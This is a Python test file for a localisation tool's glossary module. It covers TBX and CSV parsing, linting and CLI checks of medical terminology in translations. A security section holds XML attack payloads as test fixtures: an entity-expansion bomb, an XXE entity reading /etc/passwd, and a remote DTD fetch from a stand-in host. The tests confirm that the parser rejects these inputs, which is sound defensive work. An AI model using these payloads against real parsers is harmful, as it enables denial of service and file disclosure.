"""The glossary file: TBX v3 and v2 reading, safety, CSV round trips, lint and the CLI."""

from __future__ import annotations

import time
from pathlib import Path

import polib
import pytest

from milialocale.cli import main
from milialocale.errors import GlossaryError
from milialocale.glossary import (
    Concept, Glossary, Term, generate_csv, generate_tbx, lint_glossary, load_glossary, parse_csv,
    parse_tbx, write_tbx,
)

ROOT = Path(__file__).resolve().parent.parent
REAL = ROOT / "locales" / "glossary.tbx"
DATA = Path(__file__).resolve().parent / "data"
SHIPPED = ("en", "es", "fr", "de", "pt-BR", "ar", "zh-Hans")


def term_sec(text: str, status: str = "preferred", *extra: str) -> str:
    notes = "".join(extra)
    return (f"<termSec><term>{text}</term>"
            f'<termNote type="administrativeStatus">{status}Term-admn-sts</termNote>{notes}</termSec>')


def tbx(*concepts: str) -> bytes:
    body = "\n".join(concepts)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n'
            f'<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">\n'
            f"<tbxHeader><fileDesc><sourceDesc><p>test</p></sourceDesc></fileDesc></tbxHeader>\n"
            f"<text><body>\n{body}\n</body></text></tbx>\n").encode()


def concept(cid: str, langs: dict[str, list[str]], head: str = "") -> str:
    sections = "".join(f'<langSec xml:lang="{lang}">{"".join(terms)}</langSec>' for lang, terms in langs.items())
    return f'<conceptEntry id="{cid}">{head}{sections}</conceptEntry>'


MILIUM = concept("milium", {
    "en": [term_sec("milia"), term_sec("milium")],
    "fr": [term_sec("grain de milium"), term_sec("milia", "admitted"),
           term_sec("miliaire", "deprecated", "<note>false friend: miliaria</note>")],
}, '<descrip type="subjectField">dermatology</descrip>'
   '<descrip type="definition">Tiny keratin cyst.</descrip><note>Latin plural.</note>')


# --- reading TBX -------------------------------------------------------------------------

def test_tbx_v3_concepts_terms_and_statuses():
    glossary = parse_tbx(tbx(MILIUM), "g.tbx")
    (milium,) = glossary.concepts
    assert milium.id == "milium" and milium.definition == "Tiny keratin cyst."
    assert milium.subject_field == "dermatology" and milium.note == "Latin plural."
    assert [(t.language, t.text, t.status) for t in milium.terms] == [
        ("en", "milia", "preferred"), ("en", "milium", "preferred"), ("fr", "grain de milium", "preferred"),
        ("fr", "milia", "admitted"), ("fr", "miliaire", "deprecated")]
    assert milium.terms[-1].note == "false friend: miliaria"
    assert glossary.language == "en" and glossary.languages == ("en", "fr")


def test_tbx_v3_part_of_speech_match_mode_and_do_not_translate():
    pmid = concept("pmid", {"en": [term_sec("PMID", "preferred", '<termNote type="partOfSpeech">noun</termNote>',
                                            '<termNote type="translationNote">no</termNote>',
                                            '<termNote type="x-matchMode">exact</termNote>')]})
    (c,) = parse_tbx(tbx(pmid)).concepts
    assert c.do_not_translate and c.terms[0].match_mode == "exact" and c.terms[0].part_of_speech == "noun"


def test_tbx_v2_martif_with_tig_ntig_and_normative_authorization():
    glossary = load_glossary(DATA / "glossary_v2.tbx")
    cyst, pmid = glossary.concepts
    assert cyst.definition == "A closed sac under the skin." and cyst.subject_field == "dermatology"
    assert [(t.language, t.text, t.status) for t in cyst.terms] == [
        ("en", "cyst", "preferred"), ("fr", "kyste", "preferred"), ("fr", "vésicule", "deprecated"),
        ("pt-BR", "cisto", "preferred"), ("pt-BR", "quisto", "superseded")]
    assert cyst.terms[2].note == "A vesicle is a blister, not a cyst."
    assert pmid.do_not_translate and not cyst.do_not_translate


def test_terms_and_concepts_are_located():
    glossary = parse_tbx(tbx(MILIUM), "g.tbx")
    assert str(glossary.concepts[0].location) == "g.tbx:5"
    assert all(t.location.path == "g.tbx" and t.location.line == 5 for t in glossary.concepts[0].terms)


@pytest.mark.parametrize("data, message, line", [
    (b"<tbx><text><body><conceptEntry id='a'>\n<langSec>", "not well-formed XML", 2),
    (b'<?xml version="1.0"?>\n<html/>', "not a TBX file", 2),
    (tbx(concept("a", {"en": [term_sec("x", "forbidden")]})), "unknown term status 'forbiddenTerm-admn-sts'", 5),
    (tbx(concept("a", {"en": [term_sec("x", "preferred", '<termNote type="x-matchMode">fuzzy</termNote>')]})),
     "unknown match mode 'fuzzy'", 5),
], ids=["not-xml", "wrong-root", "bad-status", "bad-mode"])
def test_malformed_glossaries_raise_located_errors(data, message, line):
    with pytest.raises(GlossaryError) as info:
        parse_tbx(data, "g.tbx")
    assert message in str(info.value)
    assert info.value.location.line == line and str(info.value).startswith(f"g.tbx:{line}: ")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE tbx [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<tbx><text><body><conceptEntry id="x"><langSec xml:lang="en"><termSec><term>&lol9;</term></termSec>
</langSec></conceptEntry></body></text></tbx>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<tbx><text><body><conceptEntry id="x"><langSec xml:lang="en"><termSec><term>&secret;</term>
</termSec></langSec></conceptEntry></body></text></tbx>"""
REMOTE_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE tbx [
  <!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;
]>
<tbx/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, REMOTE_ENTITY, BILLION_LAUGHS.decode().encode("utf-16")],
                         ids=["billion-laughs", "xxe-file", "xxe-network", "utf-16"])
def test_entity_declarations_are_refused_quickly_and_located(data):
    started = time.monotonic()
    with pytest.raises(GlossaryError) as info:
        parse_tbx(data, "evil.tbx")
    assert time.monotonic() - started < 10  # a bomb would take minutes, or exhaust memory
    assert "internal subset or entity declarations" in info.value.message
    assert info.value.location == info.value.location.__class__("evil.tbx", 2)


def test_an_external_dtd_is_neither_loaded_nor_fetched():
    data = tbx(MILIUM).replace(b"<tbx ", b'<!DOCTYPE tbx SYSTEM "http://192.0.2.1/tbx.dtd">\n<tbx ', 1)
    started = time.monotonic()
    assert parse_tbx(data).concepts[0].id == "milium"
    assert time.monotonic() - started < 10  # a bomb would take minutes, or exhaust memory


# --- languages -----------------------------------------------------------------------------

@pytest.mark.parametrize("code, expected", [
    ("pt_BR", "pt-BR"), ("pt-BR", "pt-BR"), ("pt", "pt-BR"), ("pt_PT", "pt-BR"), ("zh_Hans", "zh-Hans"),
    ("zh", "zh-Hans"), ("zh_Hans_CN", "zh-Hans"), ("fr_CA", "fr"), ("FR", "fr"), ("it", None),
])
def test_language_codes_resolve_with_fallback(code, expected):
    glossary = Glossary((Concept("c", (Term("a", "fr"), Term("b", "pt-BR"), Term("c", "zh-Hans"))),))
    assert glossary.resolve_language(code) == expected


# --- writing and CSV -------------------------------------------------------------------------

def test_tbx_round_trip_is_lossless_and_deterministic(tmp_path):
    glossary = load_glossary(REAL)
    text = generate_tbx(glossary)
    assert parse_tbx(text.encode()) == glossary
    assert generate_tbx(parse_tbx(text.encode())) == text
    path = tmp_path / "g.tbx"
    assert write_tbx(path, glossary) is True
    assert write_tbx(path, glossary) is False


def test_csv_round_trip_of_the_real_glossary():
    glossary = load_glossary(REAL)
    text = generate_csv(glossary)
    again = parse_csv(text)
    assert again == glossary
    assert generate_csv(again) == text
    assert parse_tbx(generate_tbx(again).encode()) == glossary


def test_csv_accepts_tbx_status_names_gettext_codes_and_a_bom():
    text = ("\ufeffconcept_id,language,term,status,do_not_translate\n"
            "cyst,en,cyst,preferred,\ncyst,pt_BR,cisto,preferredTerm-admn-sts,\n"
            "pmid,en,PMID,,yes\n")
    glossary = parse_csv(text.lstrip("\ufeff"))
    cyst, pmid = glossary.concepts
    assert [(t.language, t.status) for t in cyst.terms] == [("en", "preferred"), ("pt-BR", "preferred")]
    assert pmid.do_not_translate and pmid.terms[0].status == "admitted"


@pytest.mark.parametrize("text, message, line", [
    ("concept_id,term\n", "lacks the column(s) language", 1),
    ("concept_id,language,term,status\na,en,x,preferred\na,fr,y,favourite\n", "unknown term status 'favourite'", 3),
    ("concept_id,language,term,definition\na,en,x,one\na,fr,y,two\n", "definition of concept 'a' differs", 3),
    ("concept_id,language,term\na,en,\n", "needs concept_id, language and term", 2),
    ("concept_id,language,term,match_mode\na,en,x,fuzzy\n", "unknown match mode", 2),
], ids=["columns", "status", "conflict", "empty-term", "mode"])
def test_csv_errors_name_the_row(text, message, line):
    with pytest.raises(GlossaryError) as info:
        parse_csv(text, "terms.csv")
    assert message in info.value.message and str(info.value.location) == f"terms.csv:{line}"


# --- lint --------------------------------------------------------------------------------------

def test_the_real_glossary_is_complete_and_lints_clean():
    glossary = load_glossary(REAL)
    assert lint_glossary(glossary) == []
    assert len(glossary.concepts) >= 40
    assert set(SHIPPED) <= set(glossary.languages)
    dnt = {c.id for c in glossary.concepts if c.do_not_translate}
    assert {"pmid", "pmcid", "reviewer-name"} <= dnt
    for c in glossary.concepts:
        if not c.do_not_translate:
            assert all(any(t.status == "preferred" for t in c.terms_in(lang)) for lang in SHIPPED), c.id


def test_lint_locates_every_problem():
    data = tbx(
        concept("papule", {"en": [term_sec("papule")], "fr": [term_sec("papule")]}),
        concept("spot", {"en": [term_sec("papules")], "fr": [term_sec("tache")]}),
        concept("spot", {"en": [term_sec("spot")], "fr": [term_sec("tache", "admitted")]}),
        concept("odd", {"en": [term_sec("odd")], "fr_FR": [term_sec("x")]}),
        concept("re", {"en": [term_sec("a(b", "preferred", '<termNote type="x-matchMode">regex</termNote>')]}),
    )
    findings = lint_glossary(parse_tbx(data, "g.tbx"))
    messages = [(f.location.line, f.code, f.message) for f in findings]
    assert (6, "glossary-lint-duplicate", "term 'papules' (en) also belongs to concept 'papule' as 'papule' "
            "at g.tbx:5") in messages
    assert (7, "glossary-lint-id", "concept id 'spot' is used twice (first at g.tbx:6)") in messages
    assert (7, "glossary-lint-preferred", "concept 'spot' has no preferred term in fr") in messages
    assert (8, "glossary-lint-language", "invalid language code 'fr_FR' (use BCP 47, e.g. pt-BR, zh-Hans)") \
        in messages
    assert any(line == 9 and code == "glossary-lint-regex" for line, code, _ in messages)
    assert all(str(f).startswith("g.tbx:") for f in findings)


def test_lint_compares_terms_as_the_matcher_does_per_language():
    data = tbx(concept("a", {"de": [term_sec("Papel")], "zh-Hans": [term_sec("丘疹")]}),
               concept("b", {"de": [term_sec("Papeln")], "zh-Hans": [term_sec("粟丘疹")]}))
    findings = lint_glossary(parse_tbx(data))
    assert [(f.code, f.message.split(" also")[0]) for f in findings] == [
        ("glossary-lint-duplicate", "term 'Papeln' (de)")]


# --- CLI -----------------------------------------------------------------------------------------

def test_cli_lint_clean_and_failing(runner, tmp_path):
    result = runner.invoke(main, ["glossary", "lint", "-g", str(REAL)])
    assert result.exit_code == 0 and "no problems" in result.output
    bad = tmp_path / "bad.tbx"
    bad.write_bytes(tbx(concept("a", {"en": [term_sec("x", "admitted")]})))
    result = runner.invoke(main, ["glossary", "lint", "-g", str(bad)])
    assert result.exit_code == 1
    assert f"{bad}:5: error: concept 'a' has no preferred term in en [glossary-lint-preferred]" in result.stderr


def test_cli_import_export_import_round_trips(runner, tmp_path):
    csv_path, tbx_path, csv_again, tbx_again = (tmp_path / n for n in ("a.csv", "a.tbx", "b.csv", "b.tbx"))
    csv_path.write_text(generate_csv(load_glossary(REAL)), "utf-8")
    assert runner.invoke(main, ["glossary", "import", str(csv_path), "-o", str(tbx_path)]).exit_code == 0
    result = runner.invoke(main, ["glossary", "export", "-g", str(tbx_path), "-o", str(csv_again)])
    assert result.exit_code == 0
    assert csv_again.read_text("utf-8") == csv_path.read_text("utf-8")
    assert runner.invoke(main, ["glossary", "import", str(csv_again), "-o", str(tbx_again)]).exit_code == 0
    assert tbx_again.read_bytes() == tbx_path.read_bytes()
    result = runner.invoke(main, ["glossary", "import", str(csv_again), "-o", str(tbx_again)])
    assert result.output.strip().endswith("unchanged")


def test_cli_import_reports_a_bad_row(runner, tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("concept_id,language,term,status\na,en,x,best\n", "utf-8")
    result = runner.invoke(main, ["glossary", "import", str(path), "-o", str(tmp_path / "t.tbx")])
    assert result.exit_code == 1 and f"{path}:2: unknown term status 'best'" in result.stderr
    assert not (tmp_path / "t.tbx").exists()


def write_po(path: Path, language: str, entries: list[tuple[str, str, list[str]]]) -> Path:
    po = polib.POFile()
    po.metadata = {"Language": language, "Content-Type": "text/plain; charset=UTF-8"}
    for msgid, msgstr, flags in entries:
        po.append(polib.POEntry(msgid=msgid, msgstr=msgstr, flags=flags))
    path.parent.mkdir(parents=True, exist_ok=True)
    po.save(str(path))
    return path


def test_cli_check_locates_findings_and_honours_flags(runner, tmp_path):
    path = write_po(tmp_path / "fr.po", "fr", [
        ("Milia are benign cysts.", "Les miliaires sont des kystes bénins.", []),
        ("Milia on the nose.", "Des grains de riz sur le nez.", ["ignore-glossary"]),
        ("Milia on the cheek.", "Des boutons sur la joue.", ["fuzzy"]),
        ("Milia on the eyelid.", "", []),
        ("Reviewed by <span>Maria del Carmen Hernandez</span>.",
         "Relu par <span>María del Carmen Hernández</span>.", []),
        ("Milia in babies.", "Les grains de milium du bébé.", []),
    ])
    result = runner.invoke(main, ["glossary", "check", str(path), "-g", str(REAL)])
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    entries = {e.msgid: e.linenum for e in polib.pofile(str(path))}
    assert lines == [
        f'{path}:{entries["Milia are benign cysts."]}: error: deprecated term "miliaires" (glossary: "miliaire") '
        f'for "milia"; use "milium" or "grain de milium" [glossary-deprecated]',
        f'{path}:{entries["Reviewed by <span>Maria del Carmen Hernandez</span>."]}: error: do-not-translate '
        f'term "Maria del Carmen Hernandez" must appear verbatim; found "María del Carmen Hernández" [glossary-dnt]',
    ]


def test_cli_check_clean_file_and_locale_from_path(runner, tmp_path):
    path = write_po(tmp_path / "de" / "LC_MESSAGES" / "doc.po", "", [
        ("Milia in babies are benign.", "Milien bei Babys sind gutartig.", [])])
    result = runner.invoke(main, ["glossary", "check", str(path), "-g", str(REAL)])
    assert result.exit_code == 0, result.stderr
    result = runner.invoke(main, ["glossary", "check", str(path), "-g", str(REAL), "-l", "es"])
    assert result.exit_code == 1 and "[glossary-missing]" in result.stderr


def test_cli_check_without_a_glossary_is_a_usage_error(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = write_po(tmp_path / "fr.po", "fr", [])
    result = runner.invoke(main, ["glossary", "check", str(path)])
    assert result.exit_code == 2 and "pass -g/--glossary" in result.stderr
